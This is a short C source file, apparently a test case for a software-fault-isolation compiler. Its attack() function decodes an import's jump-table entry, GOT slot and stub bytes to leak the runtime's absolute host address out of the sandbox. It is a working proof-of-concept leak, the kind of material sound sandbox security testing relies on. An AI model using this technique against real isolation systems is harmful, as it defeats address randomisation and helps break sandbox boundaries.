/* cstubleak.c (sfi-cc -shared, C only): stubleak.s from C source. Taking
 * the address of the system-interface import gives its jump-table entry
 * (`jmp *slot(%rip)`); reading the entry, the GOT slot and the import stub
 * it points to are ordinary in-region loads. The stub's `movabs $fn, %r11`
 * holds the absolute host address of the runtime's sfi__sys_isatty:
 * attack() returns it (see stubleak_host.c). */
#include <stdint.h>
#include <string.h>

int __sfi_sys_isatty(int);

uint64_t attack(void) {
  int (*volatile fp)(int) = __sfi_sys_isatty;
  const unsigned char *e = (const unsigned char *)(uintptr_t)fp;
  uint64_t stub = 0;
  if (e[0] == 0xff && e[1] == 0x25) {
    int32_t rel;
    memcpy(&rel, e + 2, 4);
    memcpy(&stub, e + 6 + rel, 8);
  }
  const unsigned char *s = (const unsigned char *)(uintptr_t)stub;
  for (int i = 0; stub && i < 200; i++)
    if (s[i] == 0x49 && s[i + 1] == 0xbb) {
      uint64_t host;
      memcpy(&host, s + i + 2, 8);
      return host;
    }
  return 0;
}
